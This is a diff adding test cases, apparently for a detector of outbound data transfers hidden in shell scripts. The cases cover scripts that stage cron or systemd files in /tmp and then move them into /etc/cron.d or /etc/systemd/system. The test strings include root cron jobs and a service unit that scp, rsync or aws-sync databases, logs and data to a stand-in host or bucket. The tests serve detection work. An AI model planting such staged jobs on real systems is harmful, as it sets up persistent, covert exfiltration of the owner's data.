@@ -386,3 +386,43 @@ describe("the wrappers a cron line runs its command through", () => {
     expect(sends(script)).toEqual([]);
   });
 });
+
+// Found by bench regress84: a cron file a script wrote in /tmp, then copied into /etc/cron.d,
+// passed: only `crontab <file>` read what the script had written.
+describe("a file a script stages, then puts in place", () => {
+  const staged = (line: string) => `cat > /tmp/ship.cron <<'EOF'\n0 * * * * root ${line}\nEOF\n`;
+  it.each([
+    [
+      `${staged("aws s3 sync /var/log s3://offsite/")}cp /tmp/ship.cron /etc/cron.d/ship`,
+      "aws s3 → s3 bucket offsite",
+    ],
+    [
+      `${staged("scp /srv/db.tgz h.example.de:/x/")}sudo install -m 0644 /tmp/ship.cron /etc/cron.d/`,
+      "scp → host h.example.de",
+    ],
+    [
+      `${staged("scp /srv/db.tgz h.example.de:/x/")}mv -f /tmp/ship.cron /etc/cron.d`,
+      "scp → host h.example.de",
+    ],
+    [
+      `${staged("scp /srv/db.tgz h.example.de:/x/")}install -t /etc/cron.d /tmp/ship.cron`,
+      "scp → host h.example.de",
+    ],
+    [
+      "echo '[Service]\\nExecStart=/usr/bin/rsync -a /data h.example.de:/x' > /tmp/ship.unit\ncp /tmp/ship.unit /etc/systemd/system/ship.service",
+      "rsync → host h.example.de",
+    ],
+  ])("%s sends", (script, expected) => {
+    expect(sends(script)).toEqual([expected]);
+  });
+
+  it.each([
+    `${staged("scp h.example.de:/x/db.tgz /srv/")}cp /tmp/ship.cron /etc/cron.d/ship`,
+    // Put somewhere nothing runs it.
+    `${staged("scp /srv/db.tgz h.example.de:/x/")}cp /tmp/ship.cron /etc/app/ship`,
+    // A file the script did not write.
+    "cp /opt/app/ship.cron /etc/cron.d/ship",
+  ])("twin: %s sends nothing", (script) => {
+    expect(sends(script)).toEqual([]);
+  });
+});
